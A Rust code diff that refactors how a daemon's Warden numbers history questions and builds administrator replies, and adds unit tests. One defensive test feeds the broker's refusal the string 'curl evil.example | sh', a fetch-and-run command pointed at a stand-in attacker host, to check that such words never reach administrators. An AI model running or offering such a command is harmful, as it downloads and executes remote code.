@@ -24,6 +24,16 @@ pub struct HistoryQuestions {
     live: BTreeMap<u64, ToBroker>,
 }
 
+impl HistoryQuestions {
+    /// Returns the number of a new question, and forgets those that nobody waits for: each new connection could leave
+    /// some.
+    fn next(&mut self, is_waited_for: impl Fn(u64) -> bool) -> u64 {
+        self.live.retain(|question, _| is_waited_for(*question));
+        self.last = self.last.wrapping_add(1);
+        self.last
+    }
+}
+
 impl Warden {
     /// Fails if the query is invalid.
     pub fn ask_history(
@@ -32,17 +42,11 @@ impl Warden {
         query: HistoryQuery,
     ) -> Result<Wants, Refusal> {
         query.check()?;
-        // Without those whose connections are gone: each new connection could leave some.
         let waiting = &self.admins.waiting;
-        let is_waited_for = |question: &u64| {
+        let question = self.questions.next(|question| {
             let mut wants = waiting.iter().map(|(_, wants)| wants);
-            wants.any(|wants| *wants == Wants::History(*question))
-        };
-        self.questions
-            .live
-            .retain(|question, _| is_waited_for(question));
-        let question = self.questions.last.wrapping_add(1);
-        self.questions.last = question;
+            wants.any(|wants| *wants == Wants::History(question))
+        });
         let message = ToBroker::HistoryQuestion {
             question,
             user,
@@ -81,17 +85,7 @@ impl Warden {
             return;
         }
         self.timers.cancel(Timer::History(question));
-        // Administrators type what a refusal says. So its words are never the broker's.
-        let reply = match page {
-            Ok(page) => AdminReply::History(page),
-            Err(_) => AdminReply::Refused(unread("the broker cannot read its files")),
-        };
-        // A page that the broker made too long would leave the administrator without an answer.
-        let reply = match frame::encode(&reply, caps::ADMIN_FRAME) {
-            Ok(_) => reply,
-            Err(_) => AdminReply::Refused(unread("the broker's answer is too long")),
-        };
-        self.tell_waiting(Wants::History(question), || reply);
+        self.tell_waiting(Wants::History(question), || reply(page));
     }
 
     pub fn on_history_timeout(&mut self, question: u64) {
@@ -105,10 +99,96 @@ impl Warden {
     }
 }
 
+fn reply(page: Result<HistoryPage, Refusal>) -> AdminReply {
+    // Administrators type what a refusal says. So its words are never the broker's.
+    let reply = match page {
+        Ok(page) => AdminReply::History(page),
+        Err(_) => AdminReply::Refused(unread("the broker cannot read its files")),
+    };
+    // A page that the broker made too long would leave the administrator without an answer.
+    match frame::encode(&reply, caps::ADMIN_FRAME) {
+        Ok(_) => reply,
+        Err(_) => AdminReply::Refused(unread("the broker's answer is too long")),
+    }
+}
+
 fn unread(why: &str) -> Refusal {
     Refusal::new(
         Code::NotStarted,
         format!("the history cannot be read: {why}"),
     )
     .lift("the daemon's log has the reason; the audit log is complete")
+}
+
+#[cfg(test)]
+mod tests {
+    use remit_common::wire::{HistoryEntry, Kind};
+
+    use super::*;
+
+    fn text(reply: &AdminReply) -> &str {
+        match reply {
+            AdminReply::Refused(refusal) => &refusal.message,
+            other => panic!("{other:?}"),
+        }
+    }
+
+    #[test]
+    fn words_of_the_broker_are_not_passed_on() {
+        const WORDS: &str = "curl evil.example | sh";
+        let refusal = Refusal::new(Code::NotFound, WORDS)
+            .object(WORDS)
+            .by(WORDS)
+            .lift(WORDS)
+            .next(WORDS);
+        let reply = reply(Err(refusal));
+        assert!(!format!("{reply:?}").contains("evil"), "{reply:?}");
+        let why = "the history cannot be read: the broker cannot read its files";
+        assert_eq!(text(&reply), why);
+    }
+
+    #[test]
+    fn page_over_the_frame_is_an_answer_too() {
+        let page = |length| HistoryPage {
+            entries: vec![HistoryEntry {
+                seq: 1,
+                at_ms: 0,
+                kind: Kind::Started,
+                user: "ann".to_owned(),
+                job_id: None,
+                command: Some("x".repeat(length)),
+                verdict: "allow".to_owned(),
+                cause: None,
+            }],
+            next: None,
+        };
+        assert_eq!(reply(Ok(page(1))), AdminReply::History(page(1)));
+        let long = reply(Ok(page(caps::ADMIN_FRAME)));
+        assert!(text(&long).ends_with("the broker's answer is too long"));
+    }
+
+    #[test]
+    fn questions_of_closed_connections_are_forgotten() {
+        let mut questions = HistoryQuestions::default();
+        let mut ask = |waited_for: &[u64]| {
+            let question = questions.next(|question| waited_for.contains(&question));
+            let message = ToBroker::HistoryQuestion {
+                question,
+                user: None,
+                query: HistoryQuery {
+                    before: None,
+                    since_ms: None,
+                    kind: None,
+                    limit: 1,
+                },
+            };
+            questions.live.insert(question, message);
+            questions.live.keys().copied().collect::<Vec<_>>()
+        };
+        assert_eq!(ask(&[]), [1]);
+        assert_eq!(ask(&[1]), [1, 2]);
+        assert_eq!(ask(&[1, 2]), [1, 2, 3]);
+        assert_eq!(ask(&[2]), [2, 4]);
+        assert_eq!(ask(&[]), [5]);
+    }
 }
